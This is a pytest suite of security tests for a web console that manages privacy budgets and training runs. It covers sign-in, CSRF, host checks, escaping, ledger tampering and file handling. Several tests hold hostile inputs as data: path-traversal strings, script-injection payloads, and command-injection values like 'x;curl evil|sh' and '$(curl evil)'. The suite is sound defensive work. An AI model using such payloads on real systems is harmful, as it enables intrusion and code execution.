"""What a stranger, a page on another site, a viewer or an engineer tries, and does not get."""

from __future__ import annotations

import json
import os
import re
import shlex
import threading
from dataclasses import replace
from html import unescape
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest

from tacit.ledger import draw

from .calling import ORIGIN, Browser, call
from .conftest import PEOPLE, PLAN

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from .conftest import Site

PAGES = (
    "/plan", "/plan/answer", "/plan/recipe?recipe=digits", "/budgets", "/budgets/small",
    "/requests/3", "/runs", "/runs/run", "/runs/run/report", "/runs/run/statement.json",
    "/runs/run/model-card.md", "/runs/run/registry.yaml", "/compare?run=run&run=run",
)  # fmt: skip
SCRIPT = "<script>alert(1)</script>"


def written(site: Site) -> int:
    return site.ledger.refresh().head.number  # type: ignore[union-attr]


@pytest.mark.parametrize("target", PAGES)
def test_a_stranger_sees_no_page(shared: Site, target: str) -> None:
    found = shared.stranger().get(target)
    assert (found.status, found.header("location"), found.body) == (303, "/sign-in", b"")


def test_a_stranger_watches_no_run(site: Site, kept: Callable[..., Path]) -> None:
    kept()
    assert site.stranger().get("/runs/run/events").status == 401


@pytest.mark.parametrize(
    "cookie",
    ["tacit-8765=", "tacit-8765=guess", "tacit-8765=" + "A" * 43, "tacit=x", "tacit-8765=\xe9"],
)
def test_a_forged_cookie_is_nobodys(shared: Site, cookie: str) -> None:
    assert Browser(shared.app, cookie=cookie).get("/budgets").status == 303


def test_a_token_works_once(shared: Site) -> None:
    token = shared.console.access.link(PEOPLE["officer"])
    assert shared.stranger().get(f"/enter?token={token}").status == 303
    assert shared.stranger().get(f"/enter?token={token}").status == 403


@pytest.mark.parametrize("token", ["", "guess", "A" * 10_000, "%00", "é"])
def test_a_forged_token_opens_nothing(shared: Site, token: str) -> None:
    found = shared.stranger().get(f"/enter?token={token}")
    assert found.status in (403, 414)
    assert found.header("set-cookie") is None


def test_the_cookie_is_out_of_reach_of_scripts_and_other_sites(shared: Site) -> None:
    token = shared.console.access.link(PEOPLE["viewer"])
    given = shared.stranger().get(f"/enter?token={token}").header("set-cookie") or ""
    assert "HttpOnly" in given
    assert "SameSite=lax" in given
    assert "Secure" not in given  # 127.0.0.1 speaks no TLS


def test_behind_a_proxy_that_speaks_tls_the_cookie_goes_by_it(site: Site) -> None:
    console = replace(site.console, origins=site.console.origins | {"https://desk.example"})
    token = console.access.link(PEOPLE["viewer"])
    found = call(console.app([]), "GET", f"/enter?token={token}", {"host": "desk.example"})
    assert "Secure" in (found.header("set-cookie") or "")


@pytest.mark.parametrize(
    "host",
    ["evil.example", "evil.example:8765", "127.0.0.1", "", "127.0.0.1.x:8765"],
)
def test_a_name_that_was_bound_to_this_machine_is_not_answered(shared: Site, host: str) -> None:
    browser = shared.browser("officer")
    assert browser.get("/budgets", host=host).status == 421


@pytest.mark.parametrize(
    "origin", ["", "null", "http://evil.example", "http://127.0.0.1:9", "https://127.0.0.1:8765"]
)
def test_a_form_of_another_site_does_nothing(shared: Site, origin: str) -> None:
    browser, before = shared.browser("engineer"), written(shared)
    assert browser.post("/requests", PLAN, origin=origin).status == 403
    assert browser.post("/requests", PLAN, sec_fetch_site="cross-site").status == 403
    assert written(shared) == before


@pytest.mark.parametrize("word", ["", "guess", "é"])
def test_a_form_without_the_sessions_word_does_nothing(shared: Site, word: str) -> None:
    browser, before = shared.browser("engineer"), written(shared)
    assert browser.post("/requests", {**PLAN, "csrf": word}).status == 403
    assert written(shared) == before


def test_the_word_of_another_session_does_nothing(shared: Site) -> None:
    one, other, before = shared.browser("engineer"), shared.browser("engineer"), written(shared)
    assert one.post("/requests", {**PLAN, "csrf": other.csrf}).status == 403
    assert written(shared) == before


def test_another_sites_page_cannot_embed_or_load(shared: Site) -> None:
    browser = shared.browser("viewer")
    sent = {"sec_fetch_site": "cross-site", "sec_fetch_mode": "no-cors"}
    assert browser.get("/runs", **sent).status == 403
    found = browser.get("/budgets")
    policy = found.header("content-security-policy") or ""
    assert "frame-ancestors 'none'" in policy
    assert "script-src 'self';" in policy
    assert "unsafe" not in policy
    assert found.header("access-control-allow-origin") is None
    assert found.header("cache-control") == "no-store"


@pytest.mark.parametrize("who", ["viewer", "engineer"])
@pytest.mark.parametrize("verdict", ["approve", "refuse"])
def test_only_an_officer_decides(site: Site, who: str, verdict: str) -> None:
    asked = site.asked()
    browser, before = site.browser(who), written(site)
    assert browser.post(f"/requests/{asked.number}/{verdict}", {"reason": "me"}).status == 403
    assert written(site) == before


def test_nobody_else_revokes_or_withdraws(site: Site) -> None:
    asked = site.asked()
    page, officer = f"/requests/{asked.number}", site.browser("officer")
    assert officer.post(f"{page}/approve", {"reason": "ok"}).status == 303
    before = written(site)
    for who, verb, status in (
        ("viewer", "revoke", 403), ("engineer", "revoke", 403), ("viewer", "withdraw", 403),
        ("officer", "withdraw", 400), ("officer", "lapse", 404), ("officer", "end", 404),
    ):  # fmt: skip
        assert site.browser(who).post(f"{page}/{verb}", {"reason": "me"}).status == status, verb
    assert written(site) == before
    draw(site.ledger, asked.number, run="run")
    before = written(site)
    for who, verb in (("officer", "revoke"), ("engineer", "withdraw")):
        found = site.browser(who).post(f"{page}/{verb}", {"reason": "too late"})
        assert (found.status, "a run has drawn on it" in found.text) == (400, True)
    assert written(site) == before


def test_a_viewer_files_nothing(shared: Site) -> None:
    browser, before = shared.browser("viewer"), written(shared)
    assert browser.post("/requests", PLAN).status == 403
    assert browser.post("/links", {}).status == 403
    assert written(shared) == before


def test_an_officer_does_not_approve_their_own(site: Site) -> None:
    browser = site.browser("officer")
    assert browser.post("/requests", PLAN).status == 303
    number = max(site.ledger.refresh().requests)
    before = written(site)
    found = browser.post(f"/requests/{number}/approve", {"reason": "mine"})
    assert found.status == 400
    assert "another one must decide" in found.text
    assert written(site) == before


def test_a_replayed_approval_changes_nothing(site: Site) -> None:
    asked, browser = site.asked(), site.browser("officer")
    assert browser.post(f"/requests/{asked.number}/approve", {"reason": "ok"}).status == 303
    before = written(site)
    for verdict in ("approve", "refuse"):
        assert browser.post(f"/requests/{asked.number}/{verdict}", {"reason": "ok"}).status == 400
    assert written(site) == before


def test_of_two_approvals_at_once_one_counts(site: Site) -> None:
    asked = site.asked()
    found: list[int] = []

    def go(browser: Browser) -> None:
        found.append(browser.post(f"/requests/{asked.number}/approve", {"reason": "ok"}).status)

    browsers = [site.browser("officer"), site.browser("second")]
    threads = [threading.Thread(target=go, args=(one,)) for one in browsers]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(found) == [303, 400]
    assert [one.kind for one in site.ledger.history()].count("reserve") == 1
    assert site.ledger.verify().ok


def test_an_approval_without_a_reason_is_none(site: Site) -> None:
    asked, browser, before = site.asked(), site.browser("officer"), 0
    before = written(site)
    for reason in ("", "   ", "\u202e", "x" * 2000):
        found = browser.post(f"/requests/{asked.number}/approve", {"reason": reason})
        assert found.status == 400
    assert written(site) == before


def test_who_signed_out_is_out(shared: Site) -> None:
    browser = shared.browser("officer")
    cookie = browser.cookie
    assert browser.post("/sign-out", {}).status == 303
    assert Browser(shared.app, cookie=cookie).get("/budgets").status == 303


TRAVERSALS = [
    "..", "../budget.db", "..%2f..%2fetc", "%2e%2e/%2e%2e/etc", "run/../../secret", "/etc", "//etc",
    "run%00", "..\\..\\etc", "run/./..", ".", "a/b/c/d", "outside", "within/outside",
    "a" * 300,
]  # fmt: skip


def test_no_path_leads_out_of_the_folder_of_runs(
    site: Site, kept: Callable[..., Path], tmp_path: Path
) -> None:
    outside = kept("copied")
    os.rename(outside, tmp_path / "outside")
    (site.runs / "within").mkdir()
    for place in (site.runs, site.runs / "within"):
        (place / "outside").symlink_to(tmp_path / "outside")
    browser = site.browser("officer")
    for name in TRAVERSALS:
        for end in ("", "/report", "/statement.json", "/events"):
            found = browser.get(f"/runs/{name}{end}")
            # "." and "..", which a browser resolves, end at the list of runs or nowhere.
            assert found.status in (303, 404, 400), (name, end)
            assert b"small" not in found.body, (name, end)


def test_another_users_run_is_none(
    site: Site, kept: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The list failed, and so did every page, which has the list's alerts."""
    kept("theirs")
    kept("ours")
    real = os.stat

    def stat(path: Any, *more: Any, **named: Any) -> os.stat_result:  # root may look anywhere
        if "theirs/" in str(path):
            raise PermissionError(13, "Permission denied", str(path))
        return real(path, *more, **named)

    browser = site.browser("viewer")
    assert browser.get("/runs/theirs").status == 200
    monkeypatch.setattr(os, "stat", stat)
    found = browser.get("/runs/theirs")
    assert found.status == 404
    assert "there is no such run" in found.text
    for page in ("/runs", "/plan", "/budgets"):
        site.console._alerts = (-1e9, ())
        assert browser.get(page).status == 200
    assert "ours" in browser.get("/runs").text


def test_a_link_inside_a_run_is_not_followed(site: Site, kept: Callable[..., Path]) -> None:
    place = kept()
    secret = place.parent.parent / "secret.json"
    secret.write_text((place / "statement.json").read_text())
    (place / "statement.json").unlink()
    (place / "statement.json").symlink_to(secret)
    found = site.browser("viewer").get("/runs/run/statement.json")
    assert found.status == 400
    assert "is a link" in found.text


@pytest.mark.parametrize("name", ["../app.py", "%2e%2e/app.py", "console.css/..", "htmx.LICENSE"])
def test_static_files_are_a_list_and_no_folder(shared: Site, name: str) -> None:
    assert shared.browser("viewer").get(f"/static/{name}").status == 404


def test_a_script_in_any_name_is_text(site: Site, kept: Callable[..., Path]) -> None:
    kept(f"r-{SCRIPT.replace('/', '')}", recipe=SCRIPT, summary=SCRIPT, notes=[SCRIPT])
    site.asked(label=SCRIPT, reason=SCRIPT)
    browser = site.browser("officer")
    number = max(site.ledger.refresh().requests)
    name = f"/runs/r-{SCRIPT.replace('/', '')}".replace("<", "%3C").replace(">", "%3E")
    for target in ("/runs", name, "/budgets", f"/requests/{number}", "/budgets/small",
                   f"/plan?budget={SCRIPT}&recipe={SCRIPT}&examples={SCRIPT}",
                   f"/plan/answer?delta={SCRIPT}", f"{SCRIPT}"):  # fmt: skip
        found = browser.get(target)
        assert "<script>" not in found.text.replace('<script type="application/json"', "")
        assert SCRIPT not in found.text, target


def test_a_script_in_a_statement_stays_in_its_data(site: Site, kept: Callable[..., Path]) -> None:
    place = kept()
    plain = json.loads((place / "statement.json").read_text())
    plain["assumptions"] = [f"</script>{SCRIPT}"]
    plain["tuning"] = SCRIPT
    (place / "statement.json").write_text(json.dumps(plain))
    browser = site.browser("viewer")
    page = browser.get("/runs/run").text
    assert "proved" in page
    assert SCRIPT not in page
    report = browser.get("/runs/run/report")
    assert SCRIPT not in report.text
    assert "default-src 'none'" in (report.header("content-security-policy") or "")
    card = browser.get("/runs/run/model-card.md")
    assert "<script>" not in card.text
    assert card.header("x-content-type-options") == "nosniff"
    assert "attachment" in (card.header("content-disposition") or "")


def test_a_link_puts_no_command_into_a_line_to_paste(shared: Site) -> None:
    browser = shared.browser("engineer")
    for field in ("recipe", "epsilon", "delta", "epochs", "sigma", "adjacency", "budget"):
        found = browser.get(f"/plan?{field}=1;curl%20evil%20|sh&by=epsilon").text
        for line in found.split("<pre")[1:]:
            assert "evil" not in line.partition("</pre>")[0], field


def test_a_statement_that_claims_less_is_not_shown(site: Site, kept: Callable[..., Path]) -> None:
    place = kept()
    plain = json.loads((place / "statement.json").read_text())
    plain["epsilon"] = 0.5
    (place / "statement.json").write_text(json.dumps(plain))
    browser = site.browser("viewer")
    found = browser.get("/runs/run")
    assert "does not prove itself" in found.text
    for shown in ("held-out accuracy", "ε spent", "accuracy-data", "/report", 'id="live"'):
        assert shown not in found.text  # its other files are of the same hand
    for end in ("report", "statement.json", "model-card.md", "registry.yaml"):
        assert browser.get(f"/runs/run/{end}").status == 400
    assert "unreadable" in browser.get("/runs").text


def test_a_run_with_another_model_has_no_figures_in_the_list_either(
    site: Site, kept: Callable[..., Path]
) -> None:
    """Its page refused it, and the list had its ε and no alarm."""
    place = kept()
    browser = site.browser("viewer")
    assert "unreadable" not in browser.get("/runs").text
    with (place / "model.safetensors").open("r+b") as file:
        file.seek(-1, 2)
        last = file.read(1)
        file.seek(-1, 2)
        file.write(bytes([last[0] ^ 1]))
    site.console._alerts = (-1e9, ())
    assert "does not prove itself" in browser.get("/runs/run").text
    found = browser.get("/runs").text
    assert 'class="state unreadable"' in found
    assert 'class="state finished"' not in found
    assert "The run run does not prove itself" in found
    assert "RUNS/run/model.safetensors is not the file" in found
    assert str(site.runs) not in found


def _torn(place: Path) -> None:
    for name in ("run.json", "statement.json", "history.jsonl"):
        content = (place / name).read_bytes()
        (place / name).write_bytes(content[: len(content) // 2])


def _oversized(place: Path) -> None:
    (place / "run.json").write_bytes(b" " * (17 << 20))


def _deep(place: Path) -> None:
    (place / "run.json").write_bytes(b"[" * 200_000)


def _pipe(place: Path) -> None:
    (place / "statement.json").unlink()
    os.mkfifo(place / "statement.json")


def _latin(place: Path) -> None:
    (place / "history.jsonl").write_bytes(b"\xff\xfe\x00")


def test_files_that_are_torn_or_too_large_are_named(site: Site, kept: Callable[..., Path]) -> None:
    kept("sound")
    browser = site.browser("viewer")
    for harm in (_torn, _oversized, _deep, _pipe, _latin):
        name = harm.__name__.strip("_")
        harm(kept(name))
        for end in ("", "/report", "/statement.json", "/events"):
            assert browser.get(f"/runs/{name}{end}").status in (200, 400), (name, end)
    listed = browser.get("/runs")
    assert listed.status == 200
    assert 'href="/runs/sound"' in listed.text
    assert listed.text.count('class="state unreadable"') >= 4


@pytest.mark.parametrize(
    ("sent", "status"),
    [
        ({"content-length": "70000"}, 413),
        ({"content-length": "-1"}, 411),
        ({"content-length": "9" * 30}, 413),
        ({"transfer-encoding": "chunked"}, 411),
    ],
)
def test_a_form_is_small_and_says_how_long(shared: Site, sent: dict[str, str], status: int) -> None:
    browser = shared.browser("engineer")
    headers = {"host": "127.0.0.1:8765", "origin": ORIGIN, "cookie": browser.cookie, **sent}
    assert call(shared.app, "POST", "/requests", headers, b"x" * 70_000).status == status


def test_a_body_longer_than_it_said_is_not_read(shared: Site) -> None:
    browser, before = shared.browser("engineer"), written(shared)
    headers = {"host": "127.0.0.1:8765", "origin": ORIGIN, "cookie": browser.cookie,
               "content-length": "10"}  # fmt: skip
    assert call(shared.app, "POST", "/requests", headers, b"x" * 200_000).status == 413
    assert written(shared) == before


def test_fields_come_once_and_not_by_thousands(shared: Site) -> None:
    browser, before = shared.browser("engineer"), written(shared)
    for body in (b"csrf=a&csrf=b", b"&".join(b"a%d=1" % at for at in range(500))):
        headers = {"host": "127.0.0.1:8765", "origin": ORIGIN, "cookie": browser.cookie,
                   "content-length": str(len(body))}  # fmt: skip
        assert call(shared.app, "POST", "/requests", headers, body).status == 400
    assert written(shared) == before


@pytest.mark.parametrize("method", ["PUT", "DELETE", "TRACE", "OPTIONS", "PATCH", "CONNECT"])
def test_other_methods_are_refused(shared: Site, method: str) -> None:
    headers = {"host": "127.0.0.1:8765", "cookie": shared.browser("officer").cookie}
    assert call(shared.app, method, "/budgets", headers).status == 405


def test_nothing_is_written_by_looking(site: Site, kept: Callable[..., Path]) -> None:
    kept()
    asked, before = site.asked(), 0
    before = written(site)
    browser = site.browser("officer")
    light = [one for one in PAGES if "report" not in one and "recipe" not in one]
    for target in (*light, f"/requests/{asked.number}/approve", "/sign-out", "/links"):
        browser.get(target)
    assert written(site) == before


@pytest.mark.parametrize(
    "changes",
    [
        {"budget": "none"}, {"budget": ""}, {"unit": "user"}, {"adjacency": "replace-one"},
        {"examples": "-3"}, {"examples": "1e400"}, {"lot": "nan"}, {"epochs": "1e14"},
        {"epsilon": "1e9"}, {"delta": "0"}, {"delta": "0.5"}, {"sampling": "everyone"},
        {"reason": ""}, {"label": "\u202e"}, {"clip": "inf"}, {"by": "wish"},
    ],
)  # fmt: skip
def test_a_request_for_nonsense_is_not_filed(shared: Site, changes: dict[str, str]) -> None:
    browser, before = shared.browser("engineer"), written(shared)
    assert browser.post("/requests", {**PLAN, **changes}).status == 400
    assert written(shared) == before


def test_a_changed_entry_is_an_alarm_and_nothing_is_granted(site: Site) -> None:
    import sqlite3  # noqa: PLC0415

    asked = site.asked()
    site.ledger.close()
    path = site.ledger.location.removeprefix("sqlite:///")
    with sqlite3.connect(path) as connection:
        for (name,) in connection.execute(
            "SELECT name FROM sqlite_master WHERE type = 'trigger'"
        ).fetchall():
            connection.execute(f"DROP TRIGGER {name}")
        connection.execute("UPDATE entries SET body = replace(body, '8.0', '9.0') WHERE number = 2")
    connection.close()
    browser = site.browser("officer")
    found = browser.get("/budgets/small")
    assert "cannot be trusted" in found.text
    assert browser.post(f"/requests/{asked.number}/approve", {"reason": "ok"}).status in (303, 400)
    assert not site.ledger.verify().ok


def test_a_folder_whose_name_is_no_text_hides_nothing_else(
    site: Site, kept: Callable[..., Path]
) -> None:
    kept("sound")
    for name in (b"\xff\xfe", b"a\nb", "\u202egnp.exe".encode(), b"50%25", b'"><b'):
        os.rename(os.fsencode(kept("moved")), os.fsencode(site.runs) + b"/" + name)
    browser = site.browser("viewer")
    listed = browser.get("/runs")
    assert listed.status == 200
    assert 'href="/runs/sound"' in listed.text
    assert "<b" not in listed.text.partition("<tbody>")[2].replace("<button", "")
    assert browser.get("/plan?by=sigma").status == 200  # alerts are on every page
    for link in re.findall(r'href="(/runs/[^"]+)"', listed.text):
        assert browser.get(link).status in (200, 404), link


def test_a_runs_name_puts_no_command_into_a_line_to_paste(
    site: Site, kept: Callable[..., Path]
) -> None:
    names = ("x;curl evil|sh", "$(curl evil)", "--evil", "a'b")
    for name in names:
        kept(f"{name}")
        kept(f"left {name}", finished=False)
    browser = site.browser("engineer")
    for name in names:
        for shown in (name, f"left {name}"):
            page = unescape(browser.get(f"/runs/{quote(shown)}").text)
            lines = re.findall(r"<code>(tacit [^<]*)</code>", page)
            assert lines, shown
            for line in lines:
                words = shlex.split(line)
                assert words[0] == "tacit"
                assert words[-1].removeprefix("./") == shown, line
                assert not words[-1].startswith("-")


def test_another_port_of_this_machine_cannot_load_either(shared: Site) -> None:
    browser = shared.browser("viewer")
    sent = {"sec_fetch_site": "same-site", "sec_fetch_mode": "no-cors"}
    assert browser.get("/budgets", **sent).status == 403
    assert browser.get("/budgets", **{**sent, "sec_fetch_mode": "navigate"}).status == 200


def test_a_request_that_claims_less_than_its_event_is_found_out(site: Site) -> None:
    """Whoever can write the ledger can file what no page would: an officer must not be misled."""
    from tacit import Plan  # noqa: PLC0415
    from tacit.accounting import Gaussian, Repeated  # noqa: PLC0415
    from tacit.ledger import Release, ask  # noqa: PLC0415

    small = Plan.for_budget(epsilon=0.1, delta=1e-6, examples=1000, lot_size=10, epochs=1, clip=1.0)
    honest = site.asked(epsilon="3")
    asked = ask(
        site.ledger, "small", Release(Repeated(Gaussian(3.0), 10)), steps=10,
        by=PEOPLE["engineer"], reason="a small one", detail={"plan": small.as_dict()},
        asked={"epsilon": 0.1, "delta": 1e-5, "recipe": "digits"},
    )  # fmt: skip
    officer = site.browser("officer")
    page = officer.get(f"/requests/{asked.number}").text
    assert "ε = 0.1" not in page
    assert "is not the plan of its event" in page
    assert re.search(r"ε = 4\.\d+ at δ = 1e-5", page)
    page = officer.get(f"/requests/{honest.number}").text
    assert "ε = 3 at δ = 1e-5" in page
    assert "is not the plan" not in page


@pytest.mark.parametrize(
    "terms", [{"adjacency": "replace-one"}, {"unit": "user", "examples_per_user": 5}]
)
def test_a_request_does_not_claim_to_protect_others_than_the_budget_does(
    site: Site, terms: dict[str, Any]
) -> None:
    """The event of such a plan is the same, and the page said "neighbours: replace-one"."""
    from tacit import Plan  # noqa: PLC0415
    from tacit.ledger import Release, ask  # noqa: PLC0415

    shape = {"examples": 1000, "lot_size": 10, "steps": 100, "noise_multiplier": 4.0, "clip": 1.0}
    plan = Plan(**shape, **terms)
    asked = ask(
        site.ledger, "small", Release(plan.event), steps=100, by=PEOPLE["engineer"], reason="one",
        detail={"plan": plan.as_dict(), "last_step": 100},
    )  # fmt: skip
    page = site.browser("officer").get(f"/requests/{asked.number}").text
    assert "is not the plan of its event" in page
    assert "replace-one" not in page
    assert "users" not in page


def test_a_request_is_not_shown_at_a_larger_delta_than_the_budgets(site: Site) -> None:
    from tacit.accounting import Gaussian, Repeated  # noqa: PLC0415
    from tacit.ledger import Release, ask  # noqa: PLC0415

    asked = ask(
        site.ledger, "small", Release(Repeated(Gaussian(3.0), 10)), steps=10,
        by=PEOPLE["engineer"], reason="a small one", asked={"delta": 0.9},
    )  # fmt: skip
    page = site.browser("officer").get(f"/requests/{asked.number}").text
    assert re.search(r"ε = [34]\.\d+ at δ = 1e-4", page)
    assert "δ = 0.9" not in page


def test_a_void_run_is_shown_without_a_guarantee(site: Site, kept: Callable[..., Path]) -> None:
    place = kept()
    plain = json.loads((place / "statement.json").read_text())
    (place / "statement.json").write_text(json.dumps(plain | {"void": True}))
    browser = site.browser("viewer")
    assert ">void<" in browser.get("/runs").text
    page = browser.get("/runs/run").text
    assert "This run has no guarantee" in page
    assert "What no attack can exceed" not in page
    assert "a fixed seed voids the guarantee" in browser.get("/runs/run/report").text


def test_a_folder_of_countless_files_is_not_read(
    site: Site, kept: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tacit.serve.runs.MOST_FILES", 40)
    kept("sound")
    place = kept("full")
    for at in range(50):
        (place / f"{at}").touch()
    for at in range(20):
        (site.runs / f"empty{at}").mkdir()
    browser = site.browser("viewer")
    assert "more than 40 files" in browser.get("/runs").text
    assert browser.get("/runs/full").status == 400
    assert browser.get("/runs/sound").status == 200


def test_a_name_in_an_export_is_a_name(site: Site, kept: Callable[..., Path]) -> None:
    import yaml  # noqa: PLC0415

    from tacit.ledger import Person  # noqa: PLC0415

    hostile = 'x: {a: b}, "evil": # ---'
    kept(summary=f"{hostile}\n---\nlicense: evil", notes=[hostile])
    token = site.console.access.link(Person(hostile, "viewer", "9" * 32))
    browser = site.stranger().enter(token)
    registry = browser.get("/runs/run/registry.yaml")
    assert registry.status == 200, registry.text
    plain = yaml.safe_load(registry.text)
    assert "evil" not in plain
    assert hostile in json.dumps(plain, ensure_ascii=False).replace('\\"', '"')
    card = browser.get("/runs/run/model-card.md").text
    assert "license" not in (yaml.safe_load(card.split("---")[1]) or {})


def test_a_report_is_framed_by_nobody(site: Site, kept: Callable[..., Path]) -> None:
    kept()
    policy = site.browser("viewer").get("/runs/run/report").header("content-security-policy") or ""
    for part in ("default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'",
                 "form-action 'none'"):  # fmt: skip
        assert part in policy


def test_plans_that_take_long_hold_up_no_other_page(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Somebody who may only look sends plans that take minutes, as rare sampling does."""
    monkeypatch.setattr("tacit.serve.app._PATIENCE", 0.05)
    browser, before = site.browser("engineer"), written(site)
    with site.console.computing(), site.console.computing():
        assert "planner is busy" in browser.get("/plan/answer").text
        assert "planner is busy" in browser.post("/requests", PLAN).text
        assert browser.get("/budgets").status == 200
        assert written(site) == before
    assert "planner is busy" not in browser.get("/plan/answer?by=sigma").text


def test_nobody_signs_others_out_by_signing_in(
    shared: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tacit.serve.access._MOST", 60)
    officer = shared.browser("officer")
    first = shared.browser("viewer")
    for _ in range(100):
        shared.console.access.enter(shared.console.access.link(PEOPLE["viewer"]))
    assert officer.get("/sign-in").status == 200
    assert officer.get("/none").text.count("Sign out") == 1
    assert first.get("/budgets").status == 303  # one's own oldest session makes room


def test_nobody_keeps_others_from_watching(
    site: Site, kept: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    from tacit.serve.pages import Pages  # noqa: PLC0415

    kept()
    monkeypatch.setattr("tacit.serve.pages._MOST_WATCHERS", 10)
    pages = Pages(site.console)
    pages._watchers[PEOPLE["viewer"]] = 2
    app = site.console.app(pages.routes())
    viewer, officer = site.browser("viewer"), site.browser("officer")
    assert Browser(app, cookie=viewer.cookie).get("/runs/run/events").status == 503
    assert Browser(app, cookie=officer.cookie).get("/runs/run/events").status == 200
    assert pages._watchers.total() == 2  # who has left does not count
